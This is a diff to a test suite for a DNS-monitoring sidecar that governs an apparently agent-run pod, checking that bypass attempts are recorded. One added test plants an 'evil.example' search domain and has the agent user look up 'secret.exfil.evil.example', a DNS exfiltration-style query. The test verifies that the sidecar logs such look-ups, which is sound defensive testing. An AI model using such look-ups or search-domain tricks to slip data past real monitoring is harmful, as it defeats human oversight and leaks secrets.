@@ -176,7 +176,7 @@ describe.skipIf(reason !== null)(`attempts to bypass the sidecar${title}`, () =>
         `  ask(f,s,"${HOST}",1)`,
         `  ask(f,s,"${HOST}",28)`,
         `  ask(f,s,"${HOST}",65)`,
-        `  ask(f,s,"${HOST}.default.svc.cluster.local",1)`,
+        `  ask(f,s,"${HOST}.team.svc.cluster.local",1)`,
       ].join('\n'),
     )
     const once = [
@@ -184,11 +184,29 @@ describe.skipIf(reason !== null)(`attempts to bypass the sidecar${title}`, () =>
       `${HOST} 1 rcode 0 answers 1`,
       `${HOST} 28 rcode 0 answers 1`,
       `${HOST} 65 rcode 0 answers 0`,
-      `${HOST}.default.svc.cluster.local 1 rcode 3 answers 0`,
+      `${HOST}.team.svc.cluster.local 1 rcode 3 answers 0`,
     ]
     expect(ran.stdout.trim().split('\n')).toEqual([...once, ...once])
   })
 })
+
+test.skipIf(reason !== null)(
+  'a search domain that the author of the pod chooses hides no look-up and falsifies no record',
+  async () => {
+    await using pod = await startGovernedPod({ isStarted: false })
+    // The sidecar starts with the file that the kubelet makes of `dnsConfig`.
+    const resolver = 'nameserver 198.51.100.53\nsearch evil.example team.svc.cluster.local\noptions ndots:5\n'
+    writeFileSync(`/etc/netns/${pod.network.name}/resolv.conf`, resolver)
+    await pod.start()
+    const recorded = () => pod.fake.records.map(({ host }) => host)
+    const look = `import socket\nsocket.getaddrinfo("${HOST}",443)\ntry: socket.getaddrinfo("secret.exfil.evil.example.",443)\nexcept OSError: pass`
+    const ran = await pod.network.exec(['/usr/bin/python3', '-c', look], { uid: AGENT_UID })
+    expect(ran.stderr).toBe('')
+    await eventually('records', () => recorded().length >= 2 || null)
+    await new Promise((resolve) => setTimeout(resolve, 200))
+    expect(recorded()).toEqual([`${HOST}.evil.example`, 'secret.exfil.evil.example'])
+  },
+)
 
 describe.skipIf(reason !== null)(`an unavailable sidecar${title}`, () => {
   test('before its start and after SIGKILL every connection is refused and no packet leaves', async () => {
@@ -225,7 +243,7 @@ describe.skipIf(reason !== null)(`an unavailable sidecar${title}`, () => {
     await eventually('condition gone', () => pod.fake.statuses.at(-1)?.conditions?.length === 0 || null)
   })
 
-  test('a socket that another process opened as the user of the proxy is reported', async () => {
+  test('short-lived sockets that another process opens as the user of the proxy are reported', async () => {
     await using pod = await startGovernedPod()
     await eventually('ready', async () => ((await pod.health('/ready')).status === 200 ? true : null))
     const seen = () => pod.fake.statuses.flatMap(({ conditions = [] }) => conditions)
@@ -233,9 +251,10 @@ describe.skipIf(reason !== null)(`an unavailable sidecar${title}`, () => {
     const end = join(tmpdir(), `chaperone-end-${randomUUID()}`)
     const open = [
       'import os,socket,time',
-      's=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
-      's.bind(("",5000))',
-      `while not os.path.exists("${end}"): time.sleep(.1)`,
+      // Like a program with a new connection for each request, none of which lasts from one search to the next.
+      `while not os.path.exists("${end}"):`,
+      '  s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+      '  s.bind(("",5000)); time.sleep(.4); s.close()',
     ].join('\n')
     const opened = pod.network.exec(['/usr/bin/python3', '-c', open], { uid: PROXY_UID, timeoutMs: 80_000 })
     try {
